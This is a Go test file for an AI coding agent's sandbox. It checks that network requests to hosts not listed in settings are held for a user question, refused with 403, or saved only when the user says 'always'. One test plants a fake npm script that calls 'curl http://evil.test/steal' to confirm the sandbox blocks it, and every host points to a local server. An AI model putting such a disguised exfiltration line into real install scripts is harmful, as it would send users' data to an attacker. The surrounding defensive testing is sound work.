package engine

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/agent-lsp/agent-lsp/netproxy"
	"github.com/agent-lsp/agent-lsp/sandbox"
	"github.com/agent-lsp/agent-lsp/settings"
)

// TestNetworkHostQuestion: with Bash(curl:*) allowed and registry.test
// granted, a rule-allowed command reaches registry.test without a
// question; a host the settings do not grant is asked about while the
// command waits, naming the host: refused, it gets 403 and the result
// names it; "always" lets it through and saves it to
// sandbox.network.allowedDomains in settings.local.json. Every name leads
// to a local server, never the internet.
func TestNetworkHostQuestion(t *testing.T) {
	if bwrap, _ := sandbox.Probe(); bwrap == "" {
		t.Skip("bubblewrap cannot run here")
	}
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("curl is not installed")
	}
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello from %s\n", r.Host)
	}))
	defer web.Close()
	srv, err := netproxy.Shared()
	if err != nil {
		t.Fatal(err)
	}
	srv.SetDial(func(ctx context.Context, network, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, network, web.Listener.Addr().String())
	})
	defer srv.SetDial(nil)

	script := "curl -sS http://registry.test/a; curl -sS http://other.test/b; curl -sS http://asked.test/c"
	model := newScript(t, use("t1", "Bash", map[string]any{"command": script}), say("done"))
	client := &recordingClient{answers: []answer{pick(optHostReject), pick(optHostAlways)}}
	h := newHarness(t, model, client, func(c *Config) {
		c.Settings.Permissions.Allow = []settings.Rule{{Text: "Bash(curl:*)"}}
		c.Settings.Sandbox.Network.AllowedDomains = []string{"registry.test"}
	})
	h.prompt(t, "fetch")
	out := fmt.Sprint(h.toolResult(t, "t1").Content)
	for _, want := range []string{"hello from registry.test", "the sandbox refused other.test", "hello from asked.test", "The sandbox refused the connection to other.test"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in the result:\n%s", want, out)
		}
	}
	var hosts []string
	for _, q := range client.asked {
		hosts = append(hosts, q.ToolCall.RawInput.(map[string]any)["host"].(string))
		if !strings.Contains(q.ToolCall.Title, hosts[len(hosts)-1]) {
			t.Errorf("the question %q does not name the host", q.ToolCall.Title)
		}
	}
	if !slices.Equal(hosts, []string{"other.test", "asked.test"}) {
		t.Errorf("asked about %q, want other.test and asked.test", hosts)
	}
	data, err := os.ReadFile(settings.LocalPath(h.dir))
	if err != nil || !strings.Contains(string(data), `"asked.test"`) || strings.Contains(string(data), "other.test") {
		t.Errorf("settings.local.json: %v\n%s", err, data)
	}
}

// TestAlwaysAllowNpmInstall: "Always allow" on `npm install` with
// registry.npmjs.org granted runs it in the write sandbox, where it
// reaches the registry and nothing else: another host is asked about
// and, refused, gets 403. npm here is a script that fetches both, and
// both names lead to a local server.
func TestAlwaysAllowNpmInstall(t *testing.T) {
	if bwrap, _ := sandbox.Probe(); bwrap == "" {
		t.Skip("bubblewrap cannot run here")
	}
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl is not installed")
	}
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello from %s\n", r.Host)
	}))
	defer web.Close()
	srv, err := netproxy.Shared()
	if err != nil {
		t.Fatal(err)
	}
	srv.SetDial(func(ctx context.Context, network, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, network, web.Listener.Addr().String())
	})
	defer srv.SetDial(nil)
	// A PATH folder outside /tmp (which the sandbox keeps private) is
	// granted read-only.
	bin, err := os.MkdirTemp("/var/tmp", "agent-lsp-npm-")
	if err != nil {
		t.Skip(err)
	}
	t.Cleanup(func() { os.RemoveAll(bin) })
	npm := "#!/bin/sh\n" + curl + " -sS http://registry.npmjs.org/left-pad\n" + curl + " -sS http://evil.test/steal\necho; echo installed\n"
	if err := os.WriteFile(bin+"/npm", []byte(npm), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+":"+os.Getenv("PATH"))

	model := newScript(t, use("t1", "Bash", map[string]any{"command": "npm install"}), say("done"))
	client := &recordingClient{answers: []answer{pick(optAllowAlways), pick(optHostReject)}}
	h := newHarness(t, model, client, func(c *Config) {
		c.Settings.Sandbox.Network.AllowedDomains = []string{"registry.npmjs.org"}
	})
	h.prompt(t, "install")
	out := fmt.Sprint(h.toolResult(t, "t1").Content)
	for _, want := range []string{"hello from registry.npmjs.org", "the sandbox refused evil.test", "installed"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in the result:\n%s", want, out)
		}
	}
	if strings.Contains(out, "hello from evil.test") {
		t.Errorf("npm install reached evil.test:\n%s", out)
	}
	if len(client.asked) != 2 || !strings.Contains(client.asked[1].ToolCall.Title, "evil.test") {
		t.Errorf("want the Bash question, then one naming evil.test; got %d questions", len(client.asked))
	}
	data, _ := os.ReadFile(settings.LocalPath(h.dir))
	if !strings.Contains(string(data), "Bash(npm install:*)") || strings.Contains(string(data), "evil.test") {
		t.Errorf("settings.local.json:\n%s", data)
	}
}
